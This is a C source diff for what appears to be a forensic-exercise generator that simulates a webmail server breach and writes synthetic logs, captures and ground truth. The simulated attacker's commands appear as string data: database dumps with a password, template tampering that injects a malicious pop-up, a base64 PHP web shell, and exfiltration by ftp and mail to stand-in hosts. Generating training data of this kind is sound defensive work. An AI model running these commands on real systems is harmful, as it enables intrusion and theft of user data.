@@ -9,7 +9,7 @@
 #include <string.h>
 #include "sim.h"
 
-enum src_kind { S_USER, S_INCOMING, S_SPAM_BG, S_SPAM_ONSET, S_NOISE, S_DNS, S_PLAN };
+enum src_kind { S_USER, S_INCOMING, S_SPAM_BG, S_SPAM_ONSET, S_NOISE, S_DNS, S_PLAN, S_APACHE_MAIL, S_ROLE_SPAM };
 struct src { bs_time t; uint32_t seq; uint8_t kind; int arg; };
 static struct src *sheap;
 static size_t sn, scap;
@@ -55,7 +55,7 @@ static struct src src_pop(void)
 /* ------------------------------------------------------------ the plan */
 enum act {
 	A_PROBE_ALL, A_PROBE_ONE, A_EXPLOIT_RFI, A_EXPLOIT_UPLOAD, A_SHELL, A_DBREAD, A_FTP, A_MAIL_EXFIL,
-	A_BRUTE, A_BACKUP, A_ADMIN_SSH, A_SPAM_ONSET
+	A_BRUTE, A_BACKUP, A_ADMIN_SSH, A_SPAM_ONSET, A_IMAP_BURST
 };
 struct step {
 	bs_time t;
@@ -103,15 +103,30 @@ struct scenario {
 	const char *name;
 	bool attack, two, logs_only, pcapng;
 	int y, m, d;
+	enum variant v;
 };
 static const struct scenario scenarios[] = {
-	{ "reference", true, false, false, false, 2007, 5, 4 },
-	{ "clean", false, false, false, false, 2007, 5, 4 },
-	{ "maillog-only", true, false, true, false, 2007, 5, 4 },
-	{ "two-servers", true, true, false, false, 2007, 5, 4 },
-	{ "pcapng-vlan", true, false, false, true, 2007, 5, 4 },
-	{ "newyear", true, false, false, false, 2006, 12, 29 },
+	{ "reference", true, false, false, false, 2007, 5, 4, V_NONE },
+	{ "clean", false, false, false, false, 2007, 5, 4, V_NONE },
+	{ "maillog-only", true, false, true, false, 2007, 5, 4, V_NONE },
+	{ "two-servers", true, true, false, false, 2007, 5, 4, V_NONE },
+	{ "pcapng-vlan", true, false, false, true, 2007, 5, 4, V_NONE },
+	{ "newyear", true, false, false, false, 2006, 12, 29, V_NONE },
+	{ "opened-only", true, false, false, false, 2007, 5, 4, V_OPENED },
+	{ "opened-only-cut", true, false, false, false, 2007, 5, 4, V_OPENED_CUT },
+	{ "post-shell", true, false, false, false, 2007, 5, 4, V_POST_SHELL },
+	{ "maillog-only-exfil", true, false, true, false, 2007, 5, 4, V_MAIL_EXFIL },
+	{ "role-spam", true, false, false, false, 2007, 5, 4, V_ROLE_SPAM },
 };
+#define SCENARIO_NAMES "reference, clean, maillog-only, two-servers, pcapng-vlan, newyear, opened-only, opened-only-cut, " \
+	"post-shell, maillog-only-exfil, role-spam"
+
+/* A_SHELL param of the new scenarios: how the command travels, which shell,
+ * and 404 once the file is gone. 0: the reference GET to the first shell. */
+#define SH(via) (64 | (int)(via))
+#define SH2 16
+#define SH404 32
+static void build_plan_v(const struct scenario *sc, bs_time E);
 
 static void build_plan(const struct scenario *sc, bs_time S, int days)
 {
@@ -131,6 +146,10 @@ static void build_plan(const struct scenario *sc, bs_time S, int days)
 	add(S + 20 * DAY + 22 * HOUR + 10 * MIN, A_PROBE_ALL, 0, IP(198, 51, 100, 150), "Mozilla/5.0 (compatible; Nmap Scripting Engine)", NULL, 5);
 	if (!sc->attack)
 		return;
+	if (sc->v != V_NONE) {
+		build_plan_v(sc, E);
+		return;
+	}
 	const int wm3 = 2, wm5 = 4;
 	WS[wm3].attacked = true;
 	WS[wm3].exploit_t = E;
@@ -182,6 +201,88 @@ static void build_plan(const struct scenario *sc, bs_time S, int days)
 	add(E2 + 2 * DAY - 1 * HOUR, A_SHELL, wm5, ATT_C, "rm -f /tmp/t.txt /tmp/t.ftp", "", 0);
 }
 
+/* The new scenarios (issue 16): the opened-only database read in two bulk
+ * reads, a POST-driven shell with a second shell and probes after removal,
+ * a maillog-only archive whose shell mails the dump out, role-account spam. */
+static void build_plan_v(const struct scenario *sc, bs_time E)
+{
+	const int wm3 = 2;
+	const bool post = sc->v == V_POST_SHELL, mx = sc->v == V_MAIL_EXFIL;
+	struct webserver *w = &WS[wm3];
+	w->attacked = true;
+	w->exploit_t = E;
+	w->shell_path = mx ? "/mail/tmp/x.php" : "/mail/tmp/.cache.php";
+	w->shell_path2 = post ? "/mail/imgs/.s.php" : NULL;
+	w->vis_first = w->vis_last = TIME_NEVER;
+	if (!mx) {
+		w->tamper_on = E + 1 * DAY + 3 * HOUR + 10 * MIN + 3 * BS_USEC;
+		w->tamper_off = E + 6 * DAY - 7 * HOUR;
+	}
+	static const char *const ua = "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.8.0.7) Gecko/20060909 Firefox/1.5.0.7";
+	add(E - 2 * DAY + 3 * HOUR + 12 * MIN, A_PROBE_ALL, 0, ATT_A, ua, NULL, 5);
+	add(E - 1 * DAY - 2 * HOUR, A_PROBE_ALL, 0, ATT_A, ua, NULL, 4);
+	add(E - 3 * HOUR, A_PROBE_ALL, 0, ATT_A, ua, NULL, 3);
+	add(E, A_EXPLOIT_RFI, wm3, ATT_A, NULL, NULL, 0);
+	add(E + 40 * BS_USEC, A_SHELL, wm3, ATT_A, "id", ID, post ? SH(VIA_FORM) : 0);
+	add(E + 2 * MIN, A_SHELL, wm3, ATT_A, "ls -la", LS, post ? SH(VIA_MULTIPART) : 0);
+	add(E + 3 * MIN + 30 * BS_USEC, A_SHELL, wm3, ATT_A, "cat config.php", CONFIG, post ? SH(VIA_COOKIE) : 0);
+	add(E + 5 * MIN, A_SHELL, wm3, ATT_A, "uname -a", UNAME, post ? SH(VIA_FORM) : 0);
+	bs_time d1 = E + 1 * DAY + 2 * HOUR + 39 * MIN;
+	add(d1, A_SHELL, wm3, ATT_B, "id", ID, post ? SH(VIA_COOKIE) : 0);
+	add(d1 + 2 * MIN, A_SHELL, wm3, ATT_B, mx ? "mysql -h db1 -u atmail -pAtm41l!db atmail -e 'SELECT Account FROM Users; SELECT Account, Email FROM Abook' > /tmp/.d.txt"
+		: "mysql -h db1 -u atmail -pAtm41l!db atmail -e 'SELECT Account, FirstName, LastName FROM Users; SELECT Account, Email, FirstName, LastName FROM Abook' > /tmp/.d.txt",
+		"", post ? SH(VIA_BODY) : 0);
+	add(d1 + 2 * MIN + 400000, A_DBREAD, wm3, 0, NULL, NULL, mx ? 1 : 4);
+	if (!mx)
+		add(w->tamper_on - 3 * BS_USEC, A_SHELL, wm3, ATT_B,
+			"sed -i 's|</body>|<script>window.open(\"http://update.flash-player.example.cn/install.exe\",\"_blank\",\"width=400,height=300\")</script></body>|' ../templates/*.html",
+			"", post ? SH(VIA_MULTIPART) : 0);
+	add(E + 2 * DAY - 6 * HOUR, A_SHELL, wm3, ATT_A, "ls -la /tmp", LS, post ? SH(VIA_COOKIE) : 0);
+	if (post) {
+		/* A second shell; the admins find and remove the first; the
+		 * attacker's request to it is answered 404; the second one goes on. */
+		add(E + 2 * DAY - 5 * HOUR, A_SHELL, wm3, ATT_A,
+			"echo PD9waHAgcGFzc3RocnUoaXNzZXQoJF9TRVJWRVJbJ0hUVFBfWF9DTUQnXSkgPyAkX1NFUlZFUlsnSFRUUF9YX0NNRCddIDogZmlsZV9nZXRfY29udGVudHMoJ3BocDovL2lucHV0JykpOyA/Pg== | base64 -d > ../imgs/.s.php",
+			"", SH(VIA_FORM));
+		add(E + 2 * DAY - 2 * HOUR, A_ADMIN_SSH, wm3, 0, NULL, NULL, 1);
+		add(E + 2 * DAY - 1 * HOUR, A_SHELL, wm3, ATT_A, "id", "", SH(VIA_FORM) | SH404);
+		add(E + 2 * DAY - 50 * MIN, A_SHELL, wm3, ATT_A, "id", ID, SH(VIA_HEADER) | SH2);
+	}
+	int sh2 = post ? SH2 : 0;
+	bs_time d2 = E + 3 * DAY - 15 * HOUR - 16 * MIN;
+	if (mx) {
+		add(d2, A_SHELL, wm3, ATT_A, "mysql -h db1 -u atmail -pAtm41l!db atmail -e 'SELECT Email FROM Abook_old; SELECT EmailTo FROM Log_SendMail' >> /tmp/.d.txt", "", 0);
+		add(d2 + 400000, A_DBREAD, wm3, 0, NULL, NULL, 2);
+		/* The night before, the passwords seen on wm3 are tried on IMAP through it. */
+		add(E + 1 * DAY + 9 * HOUR + 34 * MIN, A_IMAP_BURST, wm3, 0, NULL, NULL, 0);
+	} else {
+		add(d2, A_SHELL, wm3, ATT_A, "mysql -h db1 -u atmail -pAtm41l!db atmail -e 'SELECT Email, Name, Direction FROM Correspondents' >> /tmp/.d.txt",
+			"", post ? SH(VIA_BODY) | sh2 : 0);
+		add(d2 + 400000, A_DBREAD, wm3, 0, NULL, NULL, 5);
+		add(d2 + 8 * MIN, A_SHELL, wm3, ATT_A, "ftp -n ftp.dropzone.example < /tmp/.f", "", post ? SH(VIA_HEADER) | sh2 : 0);
+		add(d2 + 8 * MIN + 300000, A_FTP, wm3, FTP1, "ftp.dropzone.example", NULL, 0);
+	}
+	add(d2 + 12 * MIN, A_SHELL, wm3, ATT_A, "cat /tmp/.d.txt | mail -s dump drop@mailbox.example", "", post ? SH(VIA_BODY) | sh2 : 0);
+	add(d2 + 12 * MIN + 500000, A_MAIL_EXFIL, wm3, 0, NULL, NULL, 0);
+	add(E + 4 * DAY + 30 * MIN, A_SHELL, wm3, ATT_B, "ps aux", PS, post ? SH(VIA_HEADER) | sh2 : 0);
+	add(E + 5 * DAY - 3 * HOUR, A_SHELL, wm3, ATT_A, "rm -f /tmp/.d.txt /tmp/.f", "", post ? SH(VIA_BODY) | sh2 : 0);
+	add(E + 6 * DAY - 7 * HOUR - 20 * MIN, A_ADMIN_SSH, wm3, 0, NULL, NULL, 0);
+	if (post) {
+		/* Probes after the clean-up: not use, the window stays. */
+		add(E + 6 * DAY + 2 * HOUR, A_SHELL, wm3, ATT_A, "id", "", SH(VIA_HEADER) | SH2 | SH404);
+		add(E + 7 * DAY + 5 * HOUR, A_SHELL, wm3, ATT_B, "id", "", SH404);
+	}
+	/* The spam run: ~9 days after the dump, from the early morning (role-spam). */
+	bs_time dump = d2 + 12 * MIN;
+	add(sc->v == V_ROLE_SPAM ? (dump / DAY + 9) * DAY + 4 * HOUR + 12 * MIN : E + 9 * DAY, A_SPAM_ONSET, 0, 0, NULL, NULL, 0);
+}
+
+static void dump_end_at(bs_time t)
+{
+	if (t > W.dump_end)
+		W.dump_end = t;
+}
+
 /* ---------------------------------------------------- the attacker's DB reads */
 static struct buf dump[NWEB];
 
@@ -211,6 +312,93 @@ static void dump_rows(struct buf *d, const char *header, const struct row2 *r, s
 		buf_printf(d, "%s\n", W.addrs[r[i].addr].s);
 		truth_attacker_read(r[i].addr, abook);
 	}
+}
+
+/* The opened-only database: every cell of a result row, by column. */
+struct odb_rows { const struct row2 *r; const struct corr *c; };
+static const char *odb_users_cell(void *ctx, size_t row, size_t col)
+{
+	const struct user *u = &W.users[((const struct odb_rows *)ctx)->r[row].user];
+	return col == 0 ? W.addrs[u->addr].s : col == 1 ? u->first : u->last;
+}
+static const char *odb_abook_cell(void *ctx, size_t row, size_t col)
+{
+	const struct row2 *r = &((const struct odb_rows *)ctx)->r[row];
+	return abook_field(r->user, r->addr, col);
+}
+static const char *odb_corr_cell(void *ctx, size_t row, size_t col)
+{
+	static char name[64];
+	const struct corr *c = &((const struct odb_rows *)ctx)->c[row];
+	if (col == 0)
+		return W.addrs[c->addr].s;
+	if (col == 2)
+		return c->received ? "received" : "sent";
+	if (!c->received)
+		return "";
+	snprintf(name, sizeof name, "%s %s", W.users[c->addr % W.nusers].first, W.users[c->addr / 3 % W.nusers].last);
+	return name;
+}
+
+/* Writes the rows to the dump and tells the truth which addresses they hold
+ * (cells with an '@', in any column) and whether the capture saw them. */
+static void odb_dump(struct buf *d, const char *header, cell_fn cell, void *ctx, size_t nrows, size_t ncols,
+	uint8_t (*cat)(void *ctx, size_t row), size_t gap_from, size_t gap_to)
+{
+	buf_printf(d, "%s\n", header);
+	for (size_t r = 0; r < nrows; r++)
+		for (size_t c = 0; c < ncols; c++) {
+			const char *v = cell(ctx, r, c);
+			buf_printf(d, "%s%s", v, c + 1 < ncols ? "\t" : "\n");
+			if (strchr(v, '@'))
+				truth_seen(addr_intern(v), cat(ctx, r), r < gap_from || r >= gap_to);
+		}
+}
+static uint8_t cat_login(void *ctx, size_t row) { (void)ctx; (void)row; return CAT_LOGIN; }
+static uint8_t cat_abook(void *ctx, size_t row) { (void)ctx; (void)row; return CAT_ADDRESSBOOK; }
+static uint8_t cat_corr(void *ctx, size_t row)
+{
+	return ((const struct odb_rows *)ctx)->c[row].received ? CAT_RECEIVED_FROM : CAT_SENT_TO;
+}
+
+static void attacker_dbread_odb(struct tcpconn *tc, struct buf *d, int which)
+{
+	if (which == 5) {
+		struct odb_rows ctx = { NULL, W.corr };
+		static const char *const cc[] = { "Email", "Name", "Direction" };
+		size_t n = (size_t)W.ncorr;
+		mysql_select(tc, "SELECT Email, Name, Direction FROM Correspondents", "Correspondents", cc, 3, n, odb_corr_cell, &ctx);
+		odb_dump(d, "Email\tName\tDirection", odb_corr_cell, &ctx, n, 3, cat_corr, SIZE_MAX, SIZE_MAX);
+		return;
+	}
+	size_t n = 0;
+	for (int i = 0; i < W.nusers; i++)
+		n += (size_t)W.users[i].nabook + 1;
+	struct row2 *r = bs_xmalloc((n + 1) * sizeof *r);
+	struct odb_rows ctx = { r, NULL };
+	n = 0;
+	for (int i = 0; i < W.nusers; i++)
+		if (W.users[i].in_users)
+			r[n++] = (struct row2){ i, W.users[i].addr, 0 };
+	static const char *const cu[] = { "Account", "FirstName", "LastName" };
+	mysql_select(tc, "SELECT Account, FirstName, LastName FROM Users", "Users", cu, 3, n, odb_users_cell, &ctx);
+	odb_dump(d, "Account\tFirstName\tLastName", odb_users_cell, &ctx, n, 3, cat_login, SIZE_MAX, SIZE_MAX);
+	n = 0;
+	for (int i = 0; i < W.nusers; i++)
+		for (int k = 0; k < W.users[i].nabook; k++)
+			r[n++] = (struct row2){ i, W.users[i].abook[k], 0 };
+	size_t gf = SIZE_MAX, gt = SIZE_MAX;
+	if (W.variant == V_OPENED_CUT) {
+		gf = n * 2 / 5;
+		gt = n * 3 / 5;
+		mysql_set_gap(gf, gt);
+		W.gap_from = gf;
+		W.gap_to = gt;
+	}
+	static const char *const ca[] = { "Account", "Email", "FirstName", "LastName" };
+	mysql_select(tc, "SELECT Account, Email, FirstName, LastName FROM Abook", "Abook", ca, 4, n, odb_abook_cell, &ctx);
+	odb_dump(d, "Account\tEmail\tFirstName\tLastName", odb_abook_cell, &ctx, n, 4, cat_abook, gf, gt);
+	free(r);
 }
 
 static void attacker_dbread(int server, int which, bs_time t)
@@ -269,20 +457,25 @@ static void attacker_dbread(int server, int which, bs_time t)
 		free(r);
 		server_activity(server, tc.t);
 	}
+	if (which == 4 || which == 5)
+		attacker_dbread_odb(&tc, d, which);
+	server_activity(server, tc.t);
+	dump_end_at(tc.t);
 	mysql_quit(&tc);
 }
 
-static void attacker_mail_exfil(int server, bs_time t)
+/* mail(1) on a webmail server as its web server account: Postfix pickup, then
+ * relayed through relay1. */
+static void local_mail(int server, bs_time t, int uid, const char *account, int sender, int rcpt, const char *subject,
+	const struct buf *d)
 {
-	/* mail(1) on the server: Postfix pickup, then relay through relay1. */
 	char qid[16], mid[96], iso[40];
 	struct buf data = { 0 };
-	const struct buf *d = &dump[server];
 	new_qid(qid);
 	snprintf(mid, sizeof mid, "<%llu.%s@%s.example.net>", (unsigned long long)(t / BS_USEC), qid, host_names[server]);
 	bs_time_format(t, 0, iso, sizeof iso);
-	buf_printf(&data, "Date: %s\r\nFrom: www-data@%s.example.net\r\nTo: drop@mailbox.example\r\nSubject: dump\r\nMessage-ID: %s\r\n\r\n",
-		iso, host_names[server], mid);
+	buf_printf(&data, "Date: %s\r\nFrom: %s@%s.example.net\r\nTo: %s\r\nSubject: %s\r\nMessage-ID: %s\r\n\r\n",
+		iso, account, host_names[server], W.addrs[rcpt].s, subject, mid);
 	for (size_t i = 0; i < d->n; i++) {
 		if (d->p[i] == '\n')
 			buf_add(&data, "\r\n", 2);
@@ -291,19 +484,71 @@ static void attacker_mail_exfil(int server, bs_time t)
 	}
 	int pid = next_pid(server);
 	char from[64];
-	snprintf(from, sizeof from, "www-data@%s.example.net", host_names[server]);
-	out_syslog(server, t, "postfix/pickup", pid, "%s: uid=33 from=<%s>", qid, from);
+	snprintf(from, sizeof from, "%s@%s.example.net", account, host_names[server]);
+	out_syslog(server, t, "postfix/pickup", pid, "%s: uid=%d from=<%s>", qid, uid, from);
 	out_syslog(server, t + 20000, "postfix/cleanup", next_pid(server), "%s: message-id=%s", qid, mid);
 	out_syslog(server, t + 40000, "postfix/qmgr", 1502, "%s: from=<%s>, size=%zu, nrcpt=1 (queue active)", qid, from, data.n);
-	int drop = addr_intern("drop@mailbox.example");
 	char rq[16];
-	bs_time te = smtp_to_relay(server, NULL, NULL, from, -1, &drop, 1, data.p, data.n, t + 60000, rq);
+	bs_time te = smtp_to_relay(server, NULL, NULL, from, sender, &rcpt, 1, data.p, data.n, t + 60000, rq);
 	out_syslog(server, te, "postfix/smtp", next_pid(server),
-		"%s: to=<drop@mailbox.example>, relay=relay1.example.net[10.0.2.30]:25, delay=%.1f, delays=0.04/0.01/0.1/%.1f, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as %s)",
-		qid, (double)(te - t) / 1e6, (double)(te - t) / 1e6 - 0.15, rq);
+		"%s: to=<%s>, relay=relay1.example.net[10.0.2.30]:25, delay=%.1f, delays=0.04/0.01/0.1/%.1f, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as %s)",
+		qid, W.addrs[rcpt].s, (double)(te - t) / 1e6, (double)(te - t) / 1e6 - 0.15, rq);
 	out_syslog(server, te + 1000, "postfix/qmgr", 1502, "%s: removed", qid);
-	server_activity(server, t);
 	buf_free(&data);
+}
+
+/* maillog-only-exfil: attacker activity that the maillogs show. */
+static void visible(int s, bs_time t)
+{
+	struct webserver *w = &WS[s];
+	if (w->vis_first == TIME_NEVER || t < w->vis_first)
+		w->vis_first = t;
+	if (w->vis_last == TIME_NEVER || t > w->vis_last)
+		w->vis_last = t;
+}
+
+static void attacker_mail_exfil(int server, bs_time t)
+{
+	int drop = addr_intern("drop@mailbox.example");
+	if (W.variant == V_MAIL_EXFIL) {
+		/* CentOS: the web server runs as apache, uid 48. */
+		local_mail(server, t, 48, "apache", addr_intern("apache@wm3.example.net"), drop, "dump", &dump[server]);
+		visible(server, t);
+	} else {
+		local_mail(server, t, 33, "www-data", -1, drop, "dump", &dump[server]);
+	}
+	server_activity(server, t);
+	dump_end_at(t);
+}
+
+/* maillog-only-exfil: the web server account's usual mail, a small daily report. */
+static void apache_daily_mail(int server, bs_time t)
+{
+	static struct buf b;
+	char acct[64];
+	buf_clear(&b);
+	buf_printf(&b, "@Mail session cleanup on %s: %u expired sessions removed, %u attachments purged.\n",
+		host_names[server], 20 + rng_below(R, 400), rng_below(R, 40));
+	for (unsigned i = 0, n = 5 + rng_below(R, 20); i < n; i++)
+		buf_printf(&b, "/var/www/html/mail/tmp/sess_%08x removed\n", (unsigned)rng_next(R));
+	snprintf(acct, sizeof acct, "apache@%s.example.net", host_names[server]);
+	local_mail(server, t, 48, "apache", addr_intern(acct), W.users[0].addr, "@Mail daily cleanup", &b);
+}
+
+/* maillog-only-exfil: at night, the passwords seen on the server tried on
+ * IMAP through it, a login every few seconds. */
+static void imap_burst(int server, bs_time t)
+{
+	int *u = bs_xmalloc((size_t)W.nusers * sizeof *u);
+	int n = truth_harvested(server, u, W.nusers);
+	for (int i = 0; i < n; i++) {
+		const struct user *us = &W.users[u[i]];
+		imap_webmail_login(server, us->login_name, us->password, true, t);
+		truth_login(u[i], server, t);
+		visible(server, t);
+		t += rng_span(R, 3, 12);
+	}
+	free(u);
 }
 
 static void backup_transfer(int server, bs_time t, size_t bytes)
@@ -363,8 +608,17 @@ static void run_step(const struct step *s)
 		break;
 	}
 	case A_SHELL:
-		if (WS[s->server].exploited)
+		if (!WS[s->server].exploited)
+			break;
+		if (s->param)
+			web_shell_via(s->server, s->ip, s->t, s->param & SH2 ? WS[s->server].shell_path2 : WS[s->server].shell_path,
+				(enum shell_via)(s->param & 15), s->param & SH404 ? 404 : 200, s->cmd, s->out);
+		else
 			web_shell(s->server, s->ip, s->t, s->cmd, s->out);
+		break;
+	case A_IMAP_BURST:
+		if (WS[s->server].exploited)
+			imap_burst(s->server, s->t);
 		break;
 	case A_DBREAD:
 		if (WS[s->server].exploited)
@@ -383,6 +637,7 @@ static void run_step(const struct step *s)
 		ip_str(s->ip, ip, sizeof ip);
 		server_add_attacker_ip(s->server, ip, true);
 		server_activity(s->server, te);
+		dump_end_at(te);
 		break;
 	}
 	case A_MAIL_EXFIL:
@@ -399,18 +654,22 @@ static void run_step(const struct step *s)
 		int pid = next_pid(s->server);
 		out_syslog(s->server, s->t, "sshd", pid, "Accepted password for root from 10.0.9.5 port %u ssh2", eph_port());
 		out_syslog(s->server, s->t + 1000, "sshd", pid, "pam_unix(sshd:session): session opened for user root by (uid=0)");
+		if (W.variant == V_MAIL_EXFIL || s->param == 1) /* the shell found and removed */
+			out_syslog(s->server, s->t + 4 * MIN, "sudo", 0,
+				"   admin : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/rm /var/www/html%s", WS[s->server].shell_path);
 		out_syslog(s->server, s->t + 25 * MIN, "sshd", pid, "pam_unix(sshd:session): session closed for user root");
 		break;
 	}
 	case A_SPAM_ONSET:
+		/* Customers in the stolen data, then (new scenarios) local role
+		 * accounts in it. */
+		onset_targets = bs_xmalloc((size_t)(W.naddrs + 1) * sizeof *onset_targets);
 		for (int i = 0; i < W.nusers; i++)
 			if (W.addrs[W.users[i].addr].spam_target)
-				nonset++;
-		onset_targets = bs_xmalloc((size_t)(nonset + 1) * sizeof *onset_targets);
-		nonset = 0;
-		for (int i = 0; i < W.nusers; i++)
-			if (W.addrs[W.users[i].addr].spam_target)
-				onset_targets[nonset++] = i;
+				onset_targets[nonset++] = W.users[i].addr;
+		for (int a = 0; a < W.naddrs && W.variant != V_NONE; a++)
+			if (W.addrs[a].user < 0 && W.addrs[a].spam_target)
+				onset_targets[nonset++] = a;
 		if (nonset)
 			src_push(s->t, S_SPAM_ONSET, 0);
 		break;
@@ -490,6 +749,47 @@ struct gen_opts {
 	bool pcapng_flag;
 };
 
+/* role-spam: local role accounts that get spam every day; two of them are
+ * in an address book (so in the stolen data), the others are not. */
+#define NROLES 10
+#define ROLE_SPAM_PER_DAY 3.0
+static int role_addrs[NROLES];
+
+/* The opened-only database before the simulated period: Users rows for the
+ * accounts that had logged in to webmail, Correspondents from their earlier
+ * sends (the Log_SendMail history) and opened messages. */
+static int outside_sender_for(int user);
+static void odb_init(bool roles)
+{
+	for (int i = 0; i < W.nusers; i++) {
+		struct user *u = &W.users[i];
+		u->in_users = !u->desktop && (i == W.bigbook_user || rng_chance(R, 0.75));
+	}
+	for (int k = 0; k < W.nsendlog; k++)
+		if (W.users[W.sendlog[k].user].in_users)
+			corr_add(W.sendlog[k].user, W.sendlog[k].addr, false);
+	for (int i = 0; i < W.nusers; i++)
+		for (int n = W.users[i].in_users ? (int)rng_below(R, 6) : 0; n > 0; n--)
+			corr_add(i, outside_sender_for(i), true);
+	if (!roles)
+		return;
+	static const char *const names[NROLES] = { "postmaster", "abuse", "admin", "sales", "info", "support", "office",
+		"webmaster", "billing", "hostmaster" };
+	char a[64];
+	for (int i = 0; i < NROLES; i++) {
+		snprintf(a, sizeof a, "%s@%s", names[i], LOCAL_DOMAIN);
+		role_addrs[i] = addr_intern(a);
+	}
+	for (int k = 0, placed = 0; k < W.nusers && placed < 2; k++) {
+		struct user *u = &W.users[(k * 37 + 5) % W.nusers];
+		if (!u->in_users || !u->nabook)
+			continue;
+		u->abook = bs_xrealloc(u->abook, (size_t)(u->nabook + 2) * sizeof *u->abook);
+		u->abook[u->nabook++] = role_addrs[placed ? 3 : 4]; /* info@, then sales@ */
+		placed++;
+	}
+}
+
 static int random_customer(void) { return (int)rng_below(R, (uint32_t)W.nusers); }
 
 static int outside_sender_for(int user)
@@ -511,20 +811,25 @@ int gen_run(const struct gen_opts *o)
 		if (strcmp(scenarios[i].name, o->scenario) == 0)
 			sc = &scenarios[i];
 	if (!sc) {
-		fprintf(stderr, "bs-gen: unknown scenario '%s' (reference, clean, maillog-only, two-servers, pcapng-vlan, newyear)\n", o->scenario);
+		fprintf(stderr, "bs-gen: unknown scenario '%s' (" SCENARIO_NAMES ")\n", o->scenario);
 		return 2;
 	}
 	world_build(o->seed, o->users, o->scale);
+	W.variant = sc->v;
+	W.odb = sc->v == V_OPENED || sc->v == V_OPENED_CUT || sc->v == V_POST_SHELL || sc->v == V_ROLE_SPAM;
+	W.onset_first = TIME_NEVER;
 	static rng_t sim_rng, cap_rng;
 	sim_rng.s = o->seed ^ 0xA5A5A5A5DEADBEEFULL;
 	cap_rng.s = o->seed ^ 0x0123456789ABCDEFULL;
 	R = &sim_rng;
+	if (W.odb)
+		odb_init(sc->v == V_ROLE_SPAM);
 	bool pcapng = sc->pcapng || o->pcapng_flag;
 	cap_set_rng(&cap_rng, pcapng);
 	static int rotate[NHOSTS];
 	for (int h = 0; h < NHOSTS; h++)
 		rotate[h] = (h == H_MX1 || h == H_RELAY1 || h == H_IMAP1) ? 1 : 7;
-	struct out_config oc = { o->dir, !sc->logs_only, pcapng, NHOSTS, host_names, rotate };
+	struct out_config oc = { o->dir, !sc->logs_only, pcapng, NHOSTS, host_names, rotate, sc->v == V_MAIL_EXFIL };
 	out_open(&oc);
 
 	int64_t eday = bs_days_from_civil(sc->y, (unsigned)sc->m, (unsigned)sc->d);
@@ -546,6 +851,11 @@ int gen_run(const struct gen_opts *o)
 		src_push(S + (bs_time)rng_below(R, 3600) * BS_USEC, S_NOISE, h);
 	for (int s = 0; s < NWEB; s++)
 		src_push(S + (bs_time)rng_below(R, 3600) * BS_USEC, S_DNS, s);
+	for (int s = 0; s < NWEB && sc->v == V_MAIL_EXFIL; s++)
+		src_push(S + 6 * HOUR + 25 * MIN + (bs_time)rng_below(R, 600) * BS_USEC, S_APACHE_MAIL, s);
+	double role_mean = day_s / (NROLES * ROLE_SPAM_PER_DAY * sc_rate);
+	if (sc->v == V_ROLE_SPAM)
+		src_push(S + (bs_time)(rng_exp(R, role_mean) * BS_USEC), S_ROLE_SPAM, 0);
 
 	while (sn) {
 		struct src s = src_pop();
@@ -579,8 +889,18 @@ int gen_run(const struct gen_opts *o)
 			src_push(s.t + (bs_time)(rng_exp(R, spam_mean) * BS_USEC), S_SPAM_BG, 0);
 			break;
 		case S_SPAM_ONSET:
-			mx_spam(onset_targets[rng_below(R, (uint32_t)nonset)], s.t, rng_chance(R, 0.4));
+			if (W.onset_first == TIME_NEVER)
+				W.onset_first = s.t;
+			mx_spam_to(W.addrs[onset_targets[rng_below(R, (uint32_t)nonset)]].s, s.t, rng_chance(R, 0.4));
 			src_push(s.t + (bs_time)(rng_exp(R, day_s / (nonset * ONSET_SPAM_PER_TARGET_DAY * sc_rate)) * BS_USEC), S_SPAM_ONSET, 0);
+			break;
+		case S_APACHE_MAIL:
+			apache_daily_mail(s.arg, s.t);
+			src_push(s.t + DAY + (bs_time)((int)rng_below(R, 600) - 300) * BS_USEC, S_APACHE_MAIL, s.arg);
+			break;
+		case S_ROLE_SPAM:
+			mx_spam_to(W.addrs[role_addrs[rng_below(R, NROLES)]].s, s.t, rng_chance(R, 0.5));
+			src_push(s.t + (bs_time)(rng_exp(R, role_mean) * BS_USEC), S_ROLE_SPAM, 0);
 			break;
 		case S_NOISE:
 			noise(s.arg, s.t);
@@ -593,7 +913,7 @@ int gen_run(const struct gen_opts *o)
 		}
 	}
 	out_close();
-	struct truth_opts to = { o->dir, sc->name, o->seed, sc->logs_only };
+	struct truth_opts to = { o->dir, sc->name, o->seed, sc->logs_only, sc->v != V_NONE };
 	truth_write(&to);
 	/* fleet.csv */
 	char path[4096];
